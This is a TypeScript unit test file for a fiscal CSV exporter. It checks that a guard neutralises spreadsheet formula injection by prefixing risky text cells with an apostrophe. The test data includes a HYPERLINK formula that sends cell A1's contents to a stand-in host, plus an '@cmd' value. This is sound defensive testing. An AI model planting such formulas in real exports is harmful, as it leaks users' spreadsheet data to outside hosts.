import { neutraliseFormula } from '../../../src/domain/fiscal/csv-formula.guard';
import { writeAnnexCsv, writeBookCsv } from '../../../src/domain/fiscal/index';
import type { FiscalReport } from '../../../src/domain/fiscal/report.types';

describe('CSV formula injection: text cells that a spreadsheet would run get a leading apostrophe', () => {
  it.each([
    ['equals', '=HYPERLINK("http://x.example/?d="&A1,"Clic")', `'=HYPERLINK("http://x.example/?d="&A1,"Clic")`],
    ['plus', '+1+1', "'+1+1"],
    ['minus', '-2+3', "'-2+3"],
    ['at', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['tab', '\t=1', "'\t=1"],
    ['carriage return', '\r=1', "'\r=1"],
    ['full-width equals', '＝1+1', "'＝1+1"],
    ['full-width plus', '＋1', "'＋1"],
    ['full-width minus', '－1', "'－1"],
    ['full-width at', '＠A1', "'＠A1"],
    ['plain name', 'Distribuidora La Ceiba, S.A. de C.V.', 'Distribuidora La Ceiba, S.A. de C.V.'],
    ['formula character later', 'A=B', 'A=B'],
    ['empty', '', ''],
  ])('%s', (_label, input, expected) => {
    expect(neutraliseFormula(input)).toBe(expected);
  });

  const report: FiscalReport = {
    columns: [
      { key: 'issue_date', label: 'Fecha', kind: 'date' },
      { key: 'doc_type', label: 'Tipo', kind: 'code' },
      { key: 'customer_name', label: 'Cliente', kind: 'text' },
      { key: 'total', label: 'Total', kind: 'amount' },
    ],
    rows: [
      ['01/03/2026', '05', '=HYPERLINK("http://x.example","y")', '-12.50'],
      ['02/03/2026', '-1', '@cmd', '+3.00'],
    ],
    totals: { total: '-9.50' },
    warnings: [],
  };

  it('annex CSV: only the text column changes; a negative amount stays a number', () => {
    const text = writeAnnexCsv(report, { encoding: 'utf-8', eol: 'lf', quoting: 'minimal' }).toString('utf8');
    expect(text).toBe(`01/03/2026;05;"'=HYPERLINK(""http://x.example"",""y"")";-12.50\n02/03/2026;-1;'@cmd;+3.00\n`);
  });

  it('book CSV: only the text column changes; totals untouched', () => {
    const text = writeBookCsv(report, { encoding: 'utf-8', notes: 'negative', codes: 'compact' } as Parameters<typeof writeBookCsv>[1]).toString('utf8').replace(/^\uFEFF/, '');
    expect(text.split('\r\n')).toEqual([
      'Fecha;Tipo;Cliente;Total',
      `01/03/2026;05;"'=HYPERLINK(""http://x.example"",""y"")";-12.50`,
      "02/03/2026;-1;'@cmd;+3.00",
      'Totales;;;-9.50',
      '',
    ]);
  });
});
